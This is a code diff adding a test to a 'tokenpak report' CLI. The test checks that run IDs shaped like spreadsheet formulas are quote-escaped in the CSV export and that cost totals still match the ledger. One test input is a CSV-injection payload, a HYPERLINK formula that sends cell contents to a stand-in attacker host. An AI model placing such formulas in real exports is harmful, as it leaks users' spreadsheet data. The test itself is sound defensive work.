@@ -301,6 +301,65 @@ describe("tokenpak report", () => {
     expect(anthropic.totals.adjustments).toBe(0);
   });
 
+  it("CSV: run ids and users that look like formulas stay text, and the sums still equal the ledger", async () => {
+    const own = await world();
+    const proxy = await daemon(own);
+    const runs = [
+      '=HYPERLINK("https://evil.example/?x="&A1,"invoice")',
+      "+1+1",
+      "@SUM(A1:A9)",
+      "-2+3",
+      "plain-run",
+    ];
+    try {
+      for (const run of runs) {
+        const res = await fetch(`${proxy.url}/v1/chat/completions`, {
+          method: "POST",
+          headers: {
+            authorization: `Bearer ${KEYS.alice}`,
+            "content-type": "application/json",
+            "x-tokenpak-run-id": run,
+          },
+          body: JSON.stringify({
+            model: "gpt-4o-mini",
+            max_tokens: 50,
+            messages: [{ role: "user", content: "hi" }],
+          }),
+        });
+        expect(res.status, await res.text()).toBe(200);
+      }
+      await proxy.ledger.adjust({
+        identity: { key: "alice-key", user: "alice", project: "bot" },
+        model: "gpt-4o-mini",
+        provider: "openai",
+        cost: -7_654_321,
+        reason: "reconcile",
+        at: Date.now(),
+      });
+    } finally {
+      await proxy.close();
+    }
+    const r = await cli(own, ["report", "--format", "csv", "--by", "run"]);
+    expect(r.code, r.stderr).toBe(0);
+    // No cell starts with a formula character: each such run id is prefixed with a quote.
+    for (const line of r.stdout.trimEnd().split("\n")) expect(line).not.toMatch(/^"?[=+\-@]/);
+    const records = parseCsv(r.stdout, { columns: true }) as Record<string, string>[];
+    const shown = records.map((x) => x.run);
+    for (const run of runs.slice(0, 4)) expect(shown).toContain(`'${run}`);
+    expect(shown).toContain("plain-run");
+    // Money columns are untouched: a negative amount is still a number, and the sums equal the ledger.
+    const adjusted = records.find((x) => x.adjustments_microcents === "-7654321");
+    expect(adjusted?.adjustments_usd).toBe("-0.07654321");
+    const column = (name: string) => records.map((x) => Number(x[name]));
+    expect(sum(column("spend_microcents"))).toBe(ledgerSpend(own.data));
+    expect(sum(column("total_microcents"))).toBe(ledgerSpend(own.data) - 7_654_321);
+    for (const x of records) {
+      for (const m of ["spend", "adjustments", "total"]) {
+        expect(microsOf(x[`${m}_usd`] ?? "")).toBe(Number(x[`${m}_microcents`]));
+      }
+    }
+  });
+
   it("the table shows nested groups indented under their subtotal, and --output writes the file", async () => {
     const r = await cli(w, ["report", "--by", "project", "--by", "model", "--period", "2025-11"]);
     expect(r.code, r.stderr).toBe(0);
